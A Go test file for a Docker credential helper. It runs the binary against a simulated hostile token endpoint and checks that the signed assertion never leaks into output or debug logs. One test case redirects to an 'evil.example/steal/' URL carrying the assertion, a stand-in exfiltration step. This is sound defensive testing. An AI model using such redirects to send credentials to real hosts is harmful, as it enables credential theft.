package main

import (
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/docker-credential-stackit/docker-credential-stackit/tokensource/tokensourcetest"
)

// hostileAnswers answers every token request with mode and remembers each
// assertion it was sent.
type hostileAnswers struct {
	mu         sync.Mutex
	assertions []string
}

func (h *hostileAnswers) responder(mode func(w http.ResponseWriter, r *http.Request, assertion string)) responder {
	return func(w http.ResponseWriter, r *http.Request) bool {
		a := r.PostForm.Get("assertion") // watchEndpoint has parsed the form
		h.mu.Lock()
		h.assertions = append(h.assertions, a)
		h.mu.Unlock()
		mode(w, r, a)
		return true
	}
}

func (h *hostileAnswers) sent() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]string(nil), h.assertions...)
}

func hostileStatus(status int, body func(assertion string) string) func(http.ResponseWriter, *http.Request, string) {
	return func(w http.ResponseWriter, r *http.Request, a string) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		_, _ = io.WriteString(w, body(a))
	}
}

// TestHostileTokenEndpointCannotLeakTheAssertion drives the real binary,
// with the debug log on, against a token endpoint that echoes the signed
// assertion in every way it can.
func TestHostileTokenEndpointCannotLeakTheAssertion(t *testing.T) {
	t.Parallel()
	sig := func(a string) string { return a[strings.LastIndexByte(a, '.')+1:] }
	cases := []struct {
		name string
		mode func(w http.ResponseWriter, r *http.Request, assertion string)
		want []string
	}{
		{"200 with token_type set to the assertion", hostileStatus(http.StatusOK, func(a string) string {
			return fmt.Sprintf(`{"access_token":"opaque-token-1234","expires_in":600,"token_type":%q}`, a)
		}), []string{"token_type is not Bearer"}},
		{"302 whose Location carries the assertion, query included", func(w http.ResponseWriter, r *http.Request, a string) {
			w.Header().Set("Location", "https://evil.example/steal/"+sig(a)+"?assertion="+a)
			w.WriteHeader(http.StatusFound)
		}, []string{"redirected to https://evil.example/steal/[redacted]"}},
		{"malformed header line echoing the assertion", func(w http.ResponseWriter, r *http.Request, a string) {
			conn, buf, err := w.(http.Hijacker).Hijack()
			if err != nil {
				panic(err)
			}
			defer conn.Close()
			_, _ = buf.WriteString("HTTP/1.1 200 OK\r\n" + a + "\r\n\r\n")
			_ = buf.Flush()
		}, []string{"malformed HTTP answer"}},
		{"body starting with the bare signature", hostileStatus(http.StatusBadRequest, func(a string) string {
			return sig(a) + " does not verify"
		}), []string{"answered HTTP 400: [redacted] does not verify"}},
		{"body echoing the assertion with newlines, JSON escapes and percent-encoding", hostileStatus(http.StatusUnauthorized, func(a string) string {
			var b strings.Builder
			for i, c := range []byte(a) {
				switch {
				case i%60 == 59:
					b.WriteString("\n")
					b.WriteByte(c)
				case c == '.':
					b.WriteString(`\u002e`)
				case i%7 == 0:
					fmt.Fprintf(&b, "%%%02x", c)
				default:
					b.WriteByte(c)
				}
			}
			return `{"error":"invalid_grant","seen":"` + b.String() + `"}`
		}), []string{"answered HTTP 401", "[redacted]"}},
		{"401 echoing the assertion", hostileStatus(http.StatusUnauthorized, func(a string) string {
			return "invalid assertion " + a
		}), []string{"answered HTTP 401: invalid assertion [redacted]"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := newHelperEnv(t)
			h := &hostileAnswers{}
			answer := h.responder(tc.mode)
			log := watchEndpoint(e, answer, answer, answer, answer, answer)
			r := e.getErr(defaultRegistry)
			requireContains(t, "the error", r.stdout, tc.want...)
			tokensourcetest.RequireNoAssertion(t, "stdout", r.stdout, h.sent())
			tokensourcetest.RequireNoAssertion(t, "stderr (debug log)", r.stderr, h.sent())
			if n := len(log.requests()); n != 1 {
				t.Errorf("token endpoint saw %d requests, want 1: a malformed or rejected answer is not retried", n)
			}
			requireContains(t, "the debug log", r.stderr, "token request attempt 1 failed (")
		})
	}

	t.Run("503 echoing the assertion is retried, visibly, and still leaks nothing", func(t *testing.T) {
		t.Parallel()
		e := newHelperEnv(t)
		e.vars[envRetry] = "1s"
		h := &hostileAnswers{}
		answer := h.responder(hostileStatus(http.StatusServiceUnavailable, func(a string) string { return "down; got " + a }))
		script := make([]responder, 64)
		for i := range script {
			script[i] = answer
		}
		log := watchEndpoint(e, script...)
		r := e.getErr(defaultRegistry)
		requireContains(t, "the error", r.stdout, "answered HTTP 503: down; got [redacted]")
		tokensourcetest.RequireNoAssertion(t, "stdout", r.stdout, h.sent())
		tokensourcetest.RequireNoAssertion(t, "stderr (debug log)", r.stderr, h.sent())
		requireContains(t, "the debug log", r.stderr, "token request attempt 1 failed (HTTP 503); retrying in ")
		if n := len(log.requests()); n < 2 {
			t.Errorf("token endpoint saw %d requests; a 503 is retried", n)
		}
	})
}

func TestUntrustedTLSCertificateIsTriedOnceAndNamesSSLCertFile(t *testing.T) {
	t.Parallel()
	e := newHelperEnv(t)
	var handshakes atomic.Int64
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Error("a token request went through despite the untrusted certificate")
	}))
	srv.TLS = &tls.Config{GetConfigForClient: func(*tls.ClientHelloInfo) (*tls.Config, error) {
		handshakes.Add(1)
		return nil, nil
	}}
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.StartTLS()
	t.Cleanup(srv.Close)
	e.vars[envTokenURL] = srv.URL + "/token" // SSL_CERT_FILE and SSL_CERT_DIR are not passed on
	r := e.getErr(defaultRegistry)
	requireContains(t, "the error", r.stdout, "TLS certificate this system does not trust", "SSL_CERT_FILE", "SSL_CERT_DIR")
	requireContains(t, "the debug log", r.stderr, "token request attempt 1 failed (untrusted TLS certificate); not retried")
	if n := handshakes.Load(); n != 1 {
		t.Errorf("the helper made %d TLS handshakes, want 1", n)
	}
}

func TestUnresolvableTokenHostIsTriedOnce(t *testing.T) {
	t.Parallel()
	e := newHelperEnv(t)
	e.vars[envTokenURL] = "https://does-not-exist.invalid/token"
	r := e.getErr(defaultRegistry)
	if !strings.Contains(r.stdout, "no such host") {
		t.Skipf("this machine's resolver does not answer NXDOMAIN for .invalid: %s", r.stdout)
	}
	requireContains(t, "the error", r.stdout, "the host name does not resolve", envTokenURL)
	requireContains(t, "the debug log", r.stderr, "token request attempt 1 failed (no such host); not retried")
	if strings.Contains(r.stderr, "attempt 2") {
		t.Errorf("an unresolvable host was retried:\n%s", r.stderr)
	}
}

func TestBareHostTokenURLSaysTheFullEndpointIsNeeded(t *testing.T) {
	t.Parallel()
	e := newHelperEnv(t)
	e.vars[envTokenURL] = e.srv.URL + "/"
	r := e.getErr(defaultRegistry)
	requireContains(t, "the error", r.stdout, "answered HTTP 404", envTokenURL+" must be the full token endpoint URL",
		"e.g. https://service-account.api.stackit.cloud/token")
	if n := e.srv.Requests(); n != 1 {
		t.Errorf("token endpoint saw %d requests, want 1", n)
	}
}
